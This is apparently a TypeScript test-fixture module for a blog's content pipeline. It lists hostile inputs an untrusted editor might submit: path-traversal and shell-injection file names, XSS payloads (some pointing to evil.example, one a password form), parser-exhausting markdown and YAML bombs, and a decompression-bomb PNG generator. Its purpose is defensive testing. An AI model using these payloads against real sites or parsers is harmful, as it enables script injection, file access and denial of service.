/** Files that a hostile editor sends: names, texts and pictures. */
import { deflateSync } from 'node:zlib';

/** The checks accept it. */
export const post = (body: string, fields = ''): string => `---
title: A post by somebody with other plans
description: A post that looks like any other until its text is read by a browser, which is the point.
date: 2026-01-05
author: teo
category: everyday-repairs
tags: [repair]
cover: ../images/posts/after-the-fight.svg
coverAlt: Two armchairs side by side, their threads tangled above them.
tryIt: Read one page together tonight, and talk about it for ten minutes.
pullQuote: A sentence that says what this is.
draft: true
${fields}---

${body}
`;

/** Names that lead elsewhere, or that no file of the content may have. */
export const NAMES: readonly string[] = [
  ...'mdx astro html ts js mjs json php md.ts yml'.split(' ').map((type) => `posts/99-a.${type}`),
  '../site.config.ts',
  '../../package.json',
  '../../../outside.md',
  '../../../../../../../etc/cron.d/hearthline',
  'posts/../../site.config.ts',
  'posts/../../../astro.config.mjs',
  'posts/..%2f..%2fsite.config.ts',
  'posts/%2e%2e/%2e%2e/site.config.ts',
  'posts/..\\..\\site.config.ts',
  '..\\..\\package.json',
  '/etc/passwd',
  '//etc/passwd',
  './posts/99-a.md',
  'posts//99-a.md',
  'posts/./99-a.md',
  'posts/99-a.md/',
  'posts/99-a.md\0.png',
  'posts/99-a\n.md',
  'posts/99 a.md',
  'posts/99-ä.md',
  'posts/99-a\u202egnp.md',
  'posts/99-a．md',
  'posts/．．／99-a.md',
  'posts/.md',
  'posts/.hidden.md',
  '.git/config',
  '../../.git/hooks/pre-commit',
  '.gitattributes',
  'posts/.gitattributes',
  '.gitmodules',
  '.htaccess',
  'README.md',
  'posts/README.md',
  'POSTS/99-a.md',
  'posts/99-A.MD',
  'posts/99-a',
  'posts',
  '',
  'new-folder/99-a.md',
  'images/99-a.md',
  'images/a.svg',
  'images/a.html',
  'images/a.svg.png.svg',
  'images/.png',
  'images/../../../public/a.png',
  'images/a.png/b.png',
  'posts/a.png',
  'a/b/c/d/e/f.md',
  `posts/${'a'.repeat(101)}.md`,
  `${'a/'.repeat(80)}a.md`,
  '~/99-a.md',
  '$HOME/99-a.md',
  'posts/$(touch owned).md',
  'posts/;touch owned;.md',
  'posts/|touch owned.md',
  'posts/-rf.md',
  '--output=owned.md',
  'posts/99-a.md?raw',
  'posts/99-a.md#x',
  'posts/CON.md',
  'posts/99-a.md:stream',
];

/** The same for a good picture. */
export const PICTURE_NAMES = [
  'images/../../../public/a.jpg',
  'images/..%2f..%2f..%2fpublic%2fa.jpg',
  'images/.a.jpg',
  'images/.git/a.jpg',
  'images/a.JPG',
  'images/a b.jpg',
  'images/a.html',
  'images/a.jpg.html',
  'images/a.svg',
  'images/a.md',
  'images/a/b/c/d.jpg',
  'posts/a.jpg',
  'a.jpg',
] as const;

/** Texts of a post that could run something, or that are none. */
export const TEXTS: readonly (string | Uint8Array)[] = [
  post('<script>alert(1)</script>'),
  post('<script src="/x.js"></script>'),
  post('text <img src=x onerror=alert(1)> text'),
  post('<svg onload=alert(1)>'),
  post('<svg><script>alert(1)</script></svg>'),
  post('<iframe src="https://evil.example"></iframe>'),
  post('<form action="https://evil.example"><input name=password></form>'),
  post('<meta http-equiv="refresh" content="0;url=https://evil.example">'),
  post('<base href="https://evil.example/">'),
  post('<link rel=stylesheet href="https://evil.example/x.css">'),
  post('<style>body { display: none }</style>'),
  post('<div class="callout" onclick="alert(1)">\n\na\n\n</div>'),
  post('<div style="position:fixed;inset:0">\n\na\n\n</div>'),
  post('<details ontoggle=alert(1) open>\n\na\n\n</details>'),
  post('<!--><script>alert(1)</script>-->'),
  post('<!-- --!><script>alert(1)</script> -->'),
  post('<object data="x"></object>'),
  post('[click](javascript:alert(1))'),
  post('[click](JaVaScRiPt:alert(1))'),
  post('[click](&#106;avascript:alert(1))'),
  post('[click][1]\n\n[1]: javascript:alert(1)'),
  post('![a](data:text/html,<script>alert(1)</script>)'),
  post('<javascript:alert(1)>'),
  post('[click](vbscript:msgbox(1))'),
  post('a', 'legacyPaths: ["javascript:alert(1)"]\n'),
  post('a\0b'),
  Uint8Array.from([0xff, 0xfe, 0x00, 0xd8, 0x41]),
  post('a '.repeat(300_000)),
  post('a', `extra: &a ["${'x'.repeat(50)}"]\nmore: ${'[*a, '.repeat(40)}1${']'.repeat(40)}\n`),
];

/** Texts of at most 100 kB that parsers need a minute for, or that end them; each was measured. */
export const SLOW_TEXTS: Readonly<Record<string, string>> = {
  'quotes in quotes': post('> '.repeat(20_000)),
  'quotes without spaces': post('>'.repeat(90_000)),
  'lists in lists on one line': post('- '.repeat(20_000)),
  'numbered lists in lists': post('1. '.repeat(20_000)),
  'lists in lists by lines': post(
    Array.from({ length: 80 }, (_, at) => `${' '.repeat(at * 2)}- a`).join('\n'),
  ),
  'open brackets': post('['.repeat(90_000)),
  'open pictures': post('!['.repeat(40_000)),
  'emphasis that never ends': post('**a*'.repeat(20_000)),
  'underscores that never end': post('_a __a '.repeat(10_000)),
  'runs of backticks': post(Array.from({ length: 200 }, (_, at) => '`'.repeat(at + 1)).join(' ')),
  'a table of one row': post(`${'|a'.repeat(20_000)}\n${'|-'.repeat(20_000)}`),
  'thousands of headings': post('a\n=\n'.repeat(20_000)),
  'lists in brackets in the fields': post(
    'a',
    `extra: ${'['.repeat(40_000)}${']'.repeat(40_000)}\n`,
  ),
  'thousands of entries in brackets': post('a', `extra: [${'a, '.repeat(30_000)}]\n`),
  'groups in brackets in the fields': post(
    'a',
    `extra: ${'{a: '.repeat(10_000)}1${'}'.repeat(10_000)}\n`,
  ),
  'lists in lists in the fields': post('a', `extra:\n  ${'- '.repeat(40_000)}a\n`),
  'keys in keys in the fields': post('a', `${'? '.repeat(40_000)}a\n`),
  'aliases of aliases': post(
    'a',
    `a: &a [x]\n${[...'bcdefghi'].map((key, at) => `${key}: &${key} [${Array(9).fill(`*${'abcdefghi'[at]}`).join(', ')}]\n`).join('')}`,
  ),
};

/** A PNG of 30,000 x 30,000 pixels in a few kilobytes. */
export function hugePng(): Uint8Array {
  const chunk = (name: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(name, 'latin1'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const sum = Buffer.alloc(4);
    sum.writeUInt32BE(crc(body));
    return Buffer.concat([length, body, sum]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(30_000, 0);
  header.writeUInt32BE(30_000, 4);
  header[8] = 1;
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(3751 * 30_000))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function crc(bytes: Uint8Array): number {
  let sum = 0xffffffff;
  for (const byte of bytes) {
    sum ^= byte;
    for (let bit = 0; bit < 8; bit += 1) sum = sum & 1 ? (sum >>> 1) ^ 0xedb88320 : sum >>> 1;
  }
  return (sum ^ 0xffffffff) >>> 0;
}
